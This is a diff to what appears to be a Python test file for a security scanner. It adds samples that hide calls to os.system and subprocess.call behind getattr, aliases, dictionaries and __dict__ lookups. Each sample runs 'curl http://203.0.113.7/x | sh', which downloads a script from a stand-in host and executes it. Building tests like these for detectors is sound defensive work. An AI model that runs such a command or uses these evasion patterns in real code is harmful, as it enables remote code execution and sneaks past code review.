@@ -98,7 +98,28 @@ WAITING = {
         "import os\ng = getattr\ndef go():\n    g(os, 'sys' + 'tem')('curl http://203.0.113.7/x | sh')\n"
     ),
 }
+RUN = "('curl http://203.0.113.7/x | sh')"
+CALLS = "(['sh', '-c', 'curl http://203.0.113.7/x | sh'])"
 LOOKED_UP = {
+    "a module in a mapping": f"import os\nT = {{'a': os}}\ndef go():\n    getattr(T['a'], 'sys' + 'tem'){RUN}\n",
+    "a module that is returned": (
+        f"import os\ndef give():\n    return os\ndef go():\n    getattr(give(), 'sys' + 'tem'){RUN}\n"
+    ),
+    "a module after a backslash": f"import os\nm = \\\n os\ndef go():\n    getattr(m, 'sys' + 'tem'){RUN}\n",
+    "a module before a comment": f"import os\nm = os # as is\ndef go():\n    getattr(m, 'sys' + 'tem'){RUN}\n",
+    "a module if something holds": (
+        f"import os\nm = os if 1 else None\ndef go():\n    getattr(m, 'sys' + 'tem'){RUN}\n"
+    ),
+    "a module on a line of its own": (
+        "import subprocess\ndef same(x, y):\n    return x\ndef go():\n"
+        f"    same(\n        subprocess\n        , 1).call{CALLS}\n"
+    ),
+    "a module on the line after a comment": (
+        "import subprocess\ndef same(x, y):\n    return x\ndef go():\n"
+        f"    same( # what\n        subprocess, 1).call{CALLS}\n"
+    ),
+    "the mapping of os": f"import os\ndef go():\n    os.__dict__['sys' + 'tem']{RUN}\n",
+    "a module as the default of a parameter": f"import os\ndef go(m=os):\n    getattr(m, 'sys' + 'tem'){RUN}\n",
     "an argument in nested brackets": (
         "def i(x): return x\ndef j(x): return x\ndef go():\n    import urllib.request\n"
         f"    getattr(i(j(urllib.request)), 'url' + 'open'){SEND}\n"
